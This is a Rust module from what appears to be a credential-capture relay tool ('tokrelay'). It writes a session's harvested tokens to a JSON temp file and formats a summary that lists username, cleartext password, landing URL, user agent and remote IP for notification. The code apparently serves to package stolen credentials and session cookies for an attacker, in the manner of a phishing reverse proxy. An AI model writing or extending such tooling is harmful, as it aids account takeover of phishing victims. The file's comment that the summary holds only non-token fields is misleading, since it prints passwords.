//! Token artifact: the consolidated token list as a pretty-printed JSON temp
//! file, plus a human-readable session summary that never contains tokens.

use std::io::Write;
use std::path::Path;

use chrono::{DateTime, Utc};
use tempfile::NamedTempFile;
use tokrelay_core::{Session, Token, consolidate};

use crate::error::NotifyError;

const ARTIFACT_PREFIX: &str = "tokens-";
const ARTIFACT_SUFFIX: &str = ".json";

/// RFC 1123 layout, always rendered in UTC.
const DISPLAY_TIME_FORMAT: &str = "%a, %d %b %Y %H:%M:%S UTC";

/// A written token artifact. The backing file is removed when this is dropped.
#[derive(Debug)]
pub struct Artifact {
    file: NamedTempFile,
    summary: String,
    token_count: usize,
}

impl Artifact {
    /// Consolidate the session's token sources and write them out.
    pub fn build(session: &Session, dir: &Path, now: DateTime<Utc>) -> Result<Self, NotifyError> {
        let tokens = consolidate(&session.tokens, now)?;
        Self::from_tokens(session, &tokens, dir)
    }

    /// Write already-consolidated tokens into a uniquely named file under `dir`.
    pub fn from_tokens(session: &Session, tokens: &[Token], dir: &Path) -> Result<Self, NotifyError> {
        let body = serde_json::to_vec_pretty(tokens)
            .map_err(|e| NotifyError::ArtifactWriteFailed(e.into()))?;

        let mut file = tempfile::Builder::new()
            .prefix(ARTIFACT_PREFIX)
            .suffix(ARTIFACT_SUFFIX)
            .tempfile_in(dir)
            .map_err(NotifyError::ArtifactWriteFailed)?;
        file.write_all(&body)
            .and_then(|()| file.flush())
            .map_err(NotifyError::ArtifactWriteFailed)?;

        Ok(Self {
            file,
            summary: session_summary(session),
            token_count: tokens.len(),
        })
    }

    pub fn path(&self) -> &Path {
        self.file.path()
    }

    pub fn summary(&self) -> &str {
        &self.summary
    }

    pub fn token_count(&self) -> usize {
        self.token_count
    }
}

/// Human-readable description of a session, built from its non-token fields only.
pub fn session_summary(session: &Session) -> String {
    format!(
        "Session {id}\n\n\
         Username:    {username}\n\
         Password:    {password}\n\
         Landing URL: {landing}\n\n\
         User Agent:  {agent}\n\
         Remote IP:   {remote}\n\
         Created:     {created}\n\
         Updated:     {updated}\n\n\
         Tokens are attached in the file.",
        id = session.id,
        username = session.username,
        password = session.password,
        landing = session.landing_url,
        agent = session.user_agent,
        remote = session.remote_addr,
        created = display_time(session.create_time),
        updated = display_time(session.update_time),
    )
}

fn display_time(epoch_secs: i64) -> String {
    DateTime::<Utc>::from_timestamp(epoch_secs, 0)
        .map(|t| t.format(DISPLAY_TIME_FORMAT).to_string())
        .unwrap_or_else(|| epoch_secs.to_string())
}
